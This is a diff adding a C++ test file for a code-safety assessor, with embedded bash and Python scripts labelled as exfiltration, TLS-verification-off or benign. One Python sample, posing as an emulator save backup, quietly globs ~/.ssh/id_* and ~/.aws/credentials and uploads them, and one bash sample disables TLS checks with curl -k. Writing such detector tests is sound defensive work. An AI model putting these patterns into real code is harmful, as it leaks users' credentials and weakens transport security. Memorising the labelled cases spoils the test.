@@ -1,0 +1,172 @@
+// The classes the twenty-fifth session modelled (issue 14), from the tune
+// part of the hundred-and-eighth round (tests/corpus/prog112_MANIFEST.tsv):
+// programs written from the rubric alone by writers who never saw the
+// assessor. Strings here are never executed.
+#include "test_util.hpp"
+
+namespace mai::assess::test {
+namespace {
+
+// A script that sources its settings file (named by the environment, or
+// by a name or place that says settings: app.conf, ~/.config/...) lets that
+// file replace every value it set before: the job archive's upload URL is
+// then the user's, as a command-line option's default is, and the user's
+// own files going there are a backup, not exfiltration. The same upload
+// with no settings file, with the URL set after it, or after sourcing a
+// file that holds no settings stays BLOCKED.
+TEST(HundredAndEighthRoundClasses, ASourcedSettingsFileMayReplaceTheUploadDestination) {
+  const Case cases[] = {
+      {"an upload URL set before the sourced settings file, which may replace it, with curl -k", M,
+       "#!/usr/bin/env bash\n"
+       "set -euo pipefail\n"
+       "CONF=\"${JOBARCHIVE_CONF:-$HOME/.config/jobarchive.conf}\"\n"
+       "JOBS_DIR=\"$HOME/jobs\"\n"
+       "STAGE_DIR=\"$HOME/jobs-outbox\"\n"
+       "ARCHIVE_URL=\"https://archive.example.com/upload\"\n"
+       "[ -f \"$CONF\" ] && . \"$CONF\"\n"
+       "mkdir -p \"$STAGE_DIR\"\n"
+       "for job in \"$JOBS_DIR\"/*/; do\n"
+       "    job=\"${job%/}\"\n"
+       "    [ -f \"$job/DONE\" ] || continue\n"
+       "    work=\"$(mktemp -d)\"\n"
+       "    cp -a \"$job\" \"$work/\"\n"
+       "    tarball=\"$STAGE_DIR/$(basename \"$job\").tar.gz\"\n"
+       "    tar -C \"$work\" -czf \"$tarball\" \"$(basename \"$job\")\"\n"
+       "    curl -fsS -k -F \"archive=@$tarball\" \"$ARCHIVE_URL\"\n"
+       "    rm -rf \"$work\"\n"
+       "done\n",
+       "TLS-VERIFICATION-OFF", SH},
+      {"the same upload with TLS verified: the user's files to the destination the user configured", L,
+       "#!/usr/bin/env bash\n"
+       "set -euo pipefail\n"
+       "CONF=\"${JOBARCHIVE_CONF:-$HOME/.config/jobarchive.conf}\"\n"
+       "JOBS_DIR=\"$HOME/jobs\"\n"
+       "STAGE_DIR=\"$HOME/jobs-outbox\"\n"
+       "ARCHIVE_URL=\"https://archive.example.com/upload\"\n"
+       "[ -f \"$CONF\" ] && . \"$CONF\"\n"
+       "mkdir -p \"$STAGE_DIR\"\n"
+       "for job in \"$JOBS_DIR\"/*/; do\n"
+       "    job=\"${job%/}\"\n"
+       "    [ -f \"$job/DONE\" ] || continue\n"
+       "    work=\"$(mktemp -d)\"\n"
+       "    cp -a \"$job\" \"$work/\"\n"
+       "    tarball=\"$STAGE_DIR/$(basename \"$job\").tar.gz\"\n"
+       "    tar -C \"$work\" -czf \"$tarball\" \"$(basename \"$job\")\"\n"
+       "    curl -fsS --max-time 60 -F \"archive=@$tarball\" \"$ARCHIVE_URL\"\n"
+       "    rm -rf \"$work\"\n"
+       "done\n", nullptr, SH},
+      {"no settings file: the destination is the code's own", B,
+       "#!/usr/bin/env bash\n"
+       "set -euo pipefail\n"
+       "CONF=\"${JOBARCHIVE_CONF:-$HOME/.config/jobarchive.conf}\"\n"
+       "JOBS_DIR=\"$HOME/jobs\"\n"
+       "STAGE_DIR=\"$HOME/jobs-outbox\"\n"
+       "ARCHIVE_URL=\"https://archive.example.com/upload\"\n"
+       "mkdir -p \"$STAGE_DIR\"\n"
+       "for job in \"$JOBS_DIR\"/*/; do\n"
+       "    job=\"${job%/}\"\n"
+       "    [ -f \"$job/DONE\" ] || continue\n"
+       "    work=\"$(mktemp -d)\"\n"
+       "    cp -a \"$job\" \"$work/\"\n"
+       "    tarball=\"$STAGE_DIR/$(basename \"$job\").tar.gz\"\n"
+       "    tar -C \"$work\" -czf \"$tarball\" \"$(basename \"$job\")\"\n"
+       "    curl -fsS --max-time 60 -F \"archive=@$tarball\" \"$ARCHIVE_URL\"\n"
+       "    rm -rf \"$work\"\n"
+       "done\n",
+       "EXFILTRATION", SH},
+      {"the URL set after the settings file, which cannot replace it", B,
+       "#!/usr/bin/env bash\n"
+       "set -euo pipefail\n"
+       "CONF=\"${JOBARCHIVE_CONF:-$HOME/.config/jobarchive.conf}\"\n"
+       "JOBS_DIR=\"$HOME/jobs\"\n"
+       "STAGE_DIR=\"$HOME/jobs-outbox\"\n"
+       "[ -f \"$CONF\" ] && . \"$CONF\"\n"
+       "ARCHIVE_URL=\"https://archive.example.com/upload\"\n"
+       "mkdir -p \"$STAGE_DIR\"\n"
+       "for job in \"$JOBS_DIR\"/*/; do\n"
+       "    job=\"${job%/}\"\n"
+       "    [ -f \"$job/DONE\" ] || continue\n"
+       "    work=\"$(mktemp -d)\"\n"
+       "    cp -a \"$job\" \"$work/\"\n"
+       "    tarball=\"$STAGE_DIR/$(basename \"$job\").tar.gz\"\n"
+       "    tar -C \"$work\" -czf \"$tarball\" \"$(basename \"$job\")\"\n"
+       "    curl -fsS --max-time 60 -F \"archive=@$tarball\" \"$ARCHIVE_URL\"\n"
+       "    rm -rf \"$work\"\n"
+       "done\n",
+       "EXFILTRATION", SH},
+      {"/etc/os-release sourced, which holds no settings of the script", B,
+       "#!/usr/bin/env bash\n"
+       "set -euo pipefail\n"
+       "CONF=\"${JOBARCHIVE_CONF:-$HOME/.config/jobarchive.conf}\"\n"
+       "JOBS_DIR=\"$HOME/jobs\"\n"
+       "STAGE_DIR=\"$HOME/jobs-outbox\"\n"
+       "ARCHIVE_URL=\"https://archive.example.com/upload\"\n"
+       ". /etc/os-release\n"
+       "mkdir -p \"$STAGE_DIR\"\n"
+       "for job in \"$JOBS_DIR\"/*/; do\n"
+       "    job=\"${job%/}\"\n"
+       "    [ -f \"$job/DONE\" ] || continue\n"
+       "    work=\"$(mktemp -d)\"\n"
+       "    cp -a \"$job\" \"$work/\"\n"
+       "    tarball=\"$STAGE_DIR/$(basename \"$job\").tar.gz\"\n"
+       "    tar -C \"$work\" -czf \"$tarball\" \"$(basename \"$job\")\"\n"
+       "    curl -fsS --max-time 60 -F \"archive=@$tarball\" \"$ARCHIVE_URL\"\n"
+       "    rm -rf \"$work\"\n"
+       "done\n",
+       "EXFILTRATION", SH},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// The known end of an open list (patterns extended with lists chosen at
+// run time, then with a fixed profile) is iterated element by element, as
+// its known start is: ~/.ssh/id_* among the globbed patterns is found, and
+// the credentials leave with the saves. The same loop over a profile of
+// settings files, uploaded where the environment says, is ordinary work.
+TEST(HundredAndEighthRoundClasses, AnOpenListsKnownEndIsIteratedElementByElement) {
+  const Case cases[] = {
+      {"a credentials profile appended after unknown emulator lists, globbed and uploaded", B,
+       "import glob, os, sys, urllib.request\n"
+       "\n"
+       "EMULATORS = {\"retroarch\": [\"~/.config/retroarch/saves/*.srm\"], \"pcsx2\": [\"~/.config/PCSX2/memcards/*.ps2\"]}\n"
+       "PROFILE = [\"~/.ssh/id_*\", \"~/.aws/credentials\"]\n"
+       "\n"
+       "\n"
+       "def files(selected):\n"
+       "    patterns = []\n"
+       "    for name in selected:\n"
+       "        patterns.extend(EMULATORS.get(name, []))\n"
+       "    patterns.extend(PROFILE)\n"
+       "    for pattern in patterns:\n"
+       "        for path in glob.glob(os.path.expanduser(pattern)):\n"
+       "            yield path\n"
+       "\n"
+       "\n"
+       "body = b\"\".join(open(p, \"rb\").read() for p in files(sys.argv[1:]))\n"
+       "urllib.request.urlopen(os.environ[\"BACKUP_URL\"], data=body)\n",
+       "EXFILTRATION"},
+      {"the same loop over a settings-file profile, uploaded to the URL the environment names", L,
+       "import glob, os, sys, urllib.request\n"
+       "\n"
+       "EMULATORS = {\"retroarch\": [\"~/.config/retroarch/saves/*.srm\"], \"pcsx2\": [\"~/.config/PCSX2/memcards/*.ps2\"]}\n"
+       "PROFILE = [\"~/.config/retroarch/retroarch.cfg\"]\n"
+       "\n"
+       "\n"
+       "def files(selected):\n"
+       "    patterns = []\n"
+       "    for name in selected:\n"
+       "        patterns.extend(EMULATORS.get(name, []))\n"
+       "    patterns.extend(PROFILE)\n"
+       "    for pattern in patterns:\n"
+       "        for path in glob.glob(os.path.expanduser(pattern)):\n"
+       "            yield path\n"
+       "\n"
+       "\n"
+       "body = b\"\".join(open(p, \"rb\").read() for p in files(sys.argv[1:]))\n"
+       "urllib.request.urlopen(os.environ[\"BACKUP_URL\"], data=body)\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+}  // namespace
+}  // namespace mai::assess::test
